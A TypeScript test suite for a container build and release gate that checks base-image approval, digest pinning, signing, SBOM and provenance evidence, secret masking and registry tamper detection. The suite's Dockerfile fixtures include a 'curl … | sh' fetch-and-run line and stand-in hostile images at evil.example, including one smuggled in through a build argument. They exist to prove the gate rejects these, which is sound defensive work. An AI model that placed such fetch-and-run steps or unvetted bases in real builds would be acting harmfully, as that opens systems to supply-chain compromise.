import { createPublicKey, generateKeyPairSync, verify } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { EvidenceKind } from "@plimsoll/core/release-evidence";
import { decideRelease, DEFAULT_RELEASE_POLICY } from "@plimsoll/release";
import { describe, expect, it } from "vitest";
import type { MemoryRegistry } from "./testing/memory-registry.ts";
import { Stage } from "./testing/stage.ts";

const DIGEST = `sha256:${"a".repeat(64)}`;
const DOCKERFILE = `FROM registry.example/base/run:1@${DIGEST}\nCOPY app /app\nUSER 65532\n`;
const APPROVED = { "approved-registries": "registry.example/base" };
const KEY = generateKeyPairSync("ec", { namedCurve: "P-256" });
const PEM = KEY.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
const REPOSITORY = "team/app";

/** Reference names under which manifests lie. */
function tagsIn(registry: MemoryRegistry): readonly string[] {
  return [...registry.manifests.keys()]
    .map((key) => key.slice(REPOSITORY.length + 1))
    .filter((reference) => !reference.startsWith("sha256:"))
    .sort();
}

const PUBLIC = KEY.publicKey.export({ type: "spki", format: "pem" }).toString();

/** What the release gate says of the evidence that a build left, when it trusts a key. */
async function decide({ outputs }: Stage, pem: string): Promise<string> {
  const folder = outputs.get("evidence") ?? "";
  const require: readonly EvidenceKind[] = ["sbom", "provenance", "signature"];
  const { decision } = await decideRelease({
    image: { name: "registry.example/team/app", digest: outputs.get("digest") ?? "" },
    environment: "production",
    files: readdirSync(folder).map((path) => ({
      path,
      bytes: new Uint8Array(readFileSync(join(folder, path))),
    })),
    policy: { ...DEFAULT_RELEASE_POLICY, require, keys: [{ id: "factory", pem }] },
    now: Date.parse("2026-11-24T12:30:00Z"),
    verify: (key, data, signature) =>
      Promise.resolve(verify("sha256", data, createPublicKey(key.pem), signature)),
  });
  return decision;
}

describe("a build that passes", () => {
  it("pushes, attests, signs, verifies, and tags last", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    expect(await stage.run({ ...APPROVED, "signing-key": PEM })).toBe("pass");
    const digest = stage.outputs.get("digest") ?? "";
    const tag = digest.replace(":", "-");
    expect(tagsIn(stage.registry)).toEqual(["1.0", tag, `${tag}.att`, `${tag}.sig`]);
    const puts = stage.registry.requests.filter((request) =>
      request.startsWith("PUT /v2/team/app/manifests/"),
    );
    expect(puts.at(-1)).toBe("PUT /v2/team/app/manifests/1.0");
    expect(stage.outputs.get("image-ref")).toBe(`registry.example/team/app@${digest}`);
    expect(JSON.parse(stage.outputs.get("digests") ?? "")).toEqual({ "linux/amd64": digest });
    expect(JSON.parse(stage.outputs.get("base-images") ?? "")).toMatchObject([
      { name: "registry.example/base/run", digest: DIGEST, approved: true, role: "final" },
    ]);
  });

  it("leaves evidence that the release gate takes for SBOM, provenance and signature", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    await stage.run({ ...APPROVED, "signing-key": PEM });
    expect(await decide(stage, PUBLIC)).toBe("go");
    const stranger = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey;
    expect(await decide(stage, stranger.export({ type: "spki", format: "pem" }).toString())).not.toBe("go");
  });

  it("an image of nothing is no go", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    stage.components = [];
    await stage.run({ ...APPROVED, "signing-key": PEM });
    expect(await decide(stage, PUBLIC)).toBe("indeterminate");
  });

  it("gives the engine digests, a fixed time, no secret in arguments and none of our environment", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    await stage.run(
      { ...APPROVED, secrets: "npm=correct horse battery", "build-args": "A=1" },
      { GITHUB_TOKEN: "ghs_token", ACTIONS_ID_TOKEN_REQUEST_TOKEN: "oidc" },
    );
    const build = stage.commands.find(({ args }) => args.includes("build"));
    expect(stage.pinned).toBe(DOCKERFILE.replace("run:1@", "run@"));
    expect(build?.args).toEqual(
      expect.arrayContaining(["--timestamp", "1700000000", "--omit-history", "--build-arg", "A=1"]),
    );
    for (const { args, environment } of stage.commands) {
      const text = JSON.stringify([args, environment]);
      expect(text).not.toMatch(/correct horse|ghs_token|oidc|INPUT_/u);
    }
    expect(stage.masks).toContain("correct horse battery");
    expect(readdirSync(stage.temporary).filter((name) => name.startsWith("plimsoll-build-"))).toEqual([]);
  });

  it("builds without pushing", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    expect(await stage.run({ ...APPROVED, push: "false" })).toBe("pass");
    expect(stage.registry.requests).toEqual([]);
    expect(existsSync(join(stage.outputs.get("oci-layout") ?? "", "index.json"))).toBe(true);
  });

  it("attests each of several platforms", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    stage.image = { architectures: ["amd64", "arm64"] };
    const inputs = { ...APPROVED, "signing-key": PEM, platforms: "linux/amd64,linux/arm64" };
    expect(await stage.run(inputs)).toBe("pass");
    const digests: Record<string, string> = JSON.parse(stage.outputs.get("digests") ?? "");
    expect(Object.keys(digests)).toEqual(["linux/amd64", "linux/arm64"]);
    expect(stage.outputs.get("imageid")).toBe("");
    for (const digest of [stage.outputs.get("digest") ?? "", ...Object.values(digests)])
      expect(tagsIn(stage.registry)).toContain(`${digest.replace(":", "-")}.sig`);
    const evidence = readdirSync(stage.outputs.get("evidence") ?? "");
    expect(await decide(stage, PUBLIC)).toBe("go");
    const all = JSON.parse(readFileSync(join(stage.outputs.get("evidence") ?? "", "sbom.cdx.json"), "utf8"));
    expect(all.components.map((component: Record<string, unknown>) => component["bom-ref"])).toEqual([
      "linux/amd64:0",
      "linux/arm64:0",
    ]);
    expect(evidence).toEqual(
      expect.arrayContaining(["sbom-linux-amd64.dsse.json", "sbom-linux-arm64.dsse.json"]),
    );
  });

  it("resolves a tag once where pins are not asked for, and builds with the digest", async () => {
    const stage = new Stage({ Dockerfile: "FROM registry.example/base/run:1\nCOPY a /a\nUSER 65532\n" });
    const bytes = Buffer.from('{"schemaVersion":2}');
    stage.registry.manifests.set("base/run:1", {
      mediaType: "application/vnd.oci.image.manifest.v1+json",
      bytes,
    });
    expect(await stage.run({ ...APPROVED, "require-pinned-base": "false", push: "false" })).toBe("pass");
    expect(stage.pinned).toMatch(/^FROM registry\.example\/base\/run@sha256:[0-9a-f]{64}\n/u);
    expect(stage.registry.requests).toEqual(["GET /v2/base/run/manifests/1"]);
  });
});

describe("what the workspace says", () => {
  it("its configuration approves sources, and its own registry", async () => {
    const files = {
      Dockerfile: DOCKERFILE,
      "plimsoll.yaml": "images:\n  trusted: [registry.example/base/**]\n",
    };
    expect(await new Stage(files).run({ push: "false" })).toBe("pass");
    expect(await new Stage(files).run({ push: "false", config: "none" })).toBe("fail");
  });

  it("a list of files to leave out that belongs to the Dockerfile goes to the engine", async () => {
    const stage = new Stage({ "a/Dockerfile": DOCKERFILE, "a/Dockerfile.dockerignore": "secret\n" });
    expect(await stage.run({ ...APPROVED, context: "a", push: "false" })).toBe("pass");
    const build = stage.commands.find(({ args }) => args.includes("build"));
    expect(build?.args[build.args.indexOf("--ignorefile") + 1]).toBe(
      join(stage.workspace, "a/Dockerfile.dockerignore"),
    );
  });

  it.each([
    ["2026-12-01", "pass"],
    ["2026-11-01", "fail"],
  ])("a waiver until %s lets an image in that is not approved: %s", async (expires, result) => {
    const stage = new Stage({
      Dockerfile: DOCKERFILE,
      "plimsoll.yaml": "profile: reference-design\n",
      "plimsoll-waivers.yaml": `waivers:
  - id: w-1
    rule: dockerfile/base-image-from-approved-source
    scope: { paths: [Dockerfile] }
    category: risk-accepted
    statement: Until the hardened image is there.
    approver: A. Person
    created: "2026-10-01"
    expires: "${expires}"
`,
    });
    expect(await stage.run({ push: "false" })).toBe(result);
    const bases: readonly { readonly waived: boolean }[] = JSON.parse(
      stage.outputs.get("base-images") ?? "[]",
    );
    expect(bases.map(({ waived }) => waived)).toEqual(result === "pass" ? [true] : []);
  });

  it("a wrong configuration is an error, not a verdict", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE, "plimsoll.yaml": "profile: no-such\n" });
    expect(await stage.run(APPROVED)).toBe("error");
    expect(stage.failure).toContain("no-such");
  });
});

describe("a verdict of fail: nothing is built or pushed", () => {
  it.each<[string, string, Readonly<Record<string, string>>, string]>([
    [
      "a base that is not approved",
      `FROM evil.example/x@${DIGEST}\nUSER 1000\n`,
      APPROVED,
      "does not come from an approved source",
    ],
    [
      "a base without a digest",
      "FROM registry.example/base/run:1\nUSER 1000\n",
      APPROVED,
      "is not pinned by digest",
    ],
    ["a base without a name", "ARG B\nFROM $B\nUSER 1000\n", APPROVED, "names no image"],
    [
      "a finding of severity error",
      `FROM registry.example/base/run@${DIGEST}\nRUN curl http://x.example/a | sh\nUSER 1000\n`,
      APPROVED,
      "severity error",
    ],
    [
      "an argument that chooses another base",
      `ARG B=registry.example/base/run@${DIGEST}\nFROM $B\nUSER 1000\n`,
      { ...APPROVED, "build-args": `B=evil.example/x@${DIGEST}` },
      '"evil.example/x" does not come from an approved source',
    ],
    [
      "files copied out of an image that is not approved",
      `FROM registry.example/base/run@${DIGEST}\nCOPY --from=evil.example/x@${DIGEST} /a /a\nUSER 1000\n`,
      APPROVED,
      "evil.example/x",
    ],
  ])("%s", async (_, dockerfile, inputs, why) => {
    const stage = new Stage({ Dockerfile: dockerfile });
    expect(await stage.run(inputs)).toBe("fail");
    expect(stage.failure).toContain(why);
    expect(stage.commands.filter(({ args }) => args.includes("build"))).toEqual([]);
    expect(stage.registry.requests).toEqual([]);
    expect(stage.annotations.some(({ level, file }) => level === "error" && file === "Dockerfile")).toBe(
      true,
    );
  });

  it("judges what the target needs, and not the stages behind it", async () => {
    const text = `${DOCKERFILE.replace("FROM", "FROM --platform=$BUILDPLATFORM").replace("\n", " AS good\n")}FROM evil.example/x\n`;
    const stage = new Stage({ Dockerfile: text });
    expect(await stage.run({ ...APPROVED, target: "GOOD", push: "false" })).toBe("pass");
    expect(await stage.run({ ...APPROVED, push: "false" })).toBe("fail");
    expect(await stage.run({ ...APPROVED, target: "other" })).toBe("error");
    expect(stage.failure).toContain('there is no stage "other". There are: good, 1.');
  });

  it("a secret in a layer: the image goes, and nothing is pushed", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    stage.image = { layers: ["one", `x=${Buffer.from("zz correct horse battery zz").toString("base64")}`] };
    expect(await stage.run({ ...APPROVED, secrets: "npm=correct horse battery" })).toBe("fail");
    expect(stage.failure).toContain("Secrets of the build are in the image: npm in the layer sha256:");
    expect(stage.registry.requests).toEqual([]);
    expect(readdirSync(stage.temporary).flatMap((name) => readdirSync(join(stage.temporary, name)))).toEqual(
      [],
    );
  });
});

describe("what cannot be done is an error, and no tag is set", () => {
  it.each<[string, Readonly<Record<string, string>>, string]>([
    ["a context outside", { context: ".." }, "context: "],
    ["no such file", { file: "other" }, "file: there is no other"],
    ["a name without a tag", { tags: "registry.example/a" }, "does not name registry and tag"],
    ["two repositories", { tags: "r.example/a:1,r.example/b:1" }, "is another repository"],
    ["an engine that is not there", { engine: "buildx" }, "buildx is not installed"],
    ["a key that is none", { "signing-key": "x" }, "no private key in PEM"],
    [
      "a secret in an argument",
      { secrets: "a=correct horse", "build-args": "B=correct horse" },
      "build-args: B holds a secret",
    ],
    ["an unknown source date", { "source-date-epoch": "now" }, "is no number of seconds"],
    ["a folder of tools that is not whole", { "tool-path": "bin" }, "tool-path: bin is not absolute"],
    ["an unknown option", { cache: "x" }, "there is no input cache"],
  ])("%s", async (_, inputs, why) => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    expect(await stage.run({ ...APPROVED, ...inputs })).toBe("error");
    expect(stage.failure).toContain(why);
    expect(stage.registry.requests).toEqual([]);
  });

  it("code of strangers with our rights", async () => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    expect(await stage.run(APPROVED, { GITHUB_EVENT_NAME: "pull_request_target" })).toBe("error");
    expect(stage.failure).toContain("event/untrusted");
    expect(stage.commands).toEqual([]);
  });

  it.each<[string, (path: string, bytes: Buffer) => Buffer]>([
    ["another signature", (path, bytes) => (path.endsWith(".sig") ? flipped(bytes) : bytes)],
    ["another statement", (path, bytes) => (holdsStatement(path, bytes) ? flipped(bytes) : bytes)],
    ["another image", (path, bytes) => (path.includes("/manifests/sha256:") ? flipped(bytes) : bytes)],
  ])("a registry that gives back %s", async (_, tamper) => {
    const stage = new Stage({ Dockerfile: DOCKERFILE });
    stage.registry.tamper = tamper;
    expect(await stage.run({ ...APPROVED, "signing-key": PEM })).toBe("error");
    expect(stage.failure).toContain("build/registry");
    expect(tagsIn(stage.registry)).not.toContain("1.0");
  });
});

/** One bit of the last third changed. */
function flipped(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  const at = Math.floor((copy.length * 2) / 3);
  copy[at] = (copy[at] ?? 0) ^ 1;
  return copy;
}

function holdsStatement(path: string, bytes: Buffer): boolean {
  return path.includes("/blobs/") && bytes.includes("application/vnd.in-toto+json");
}
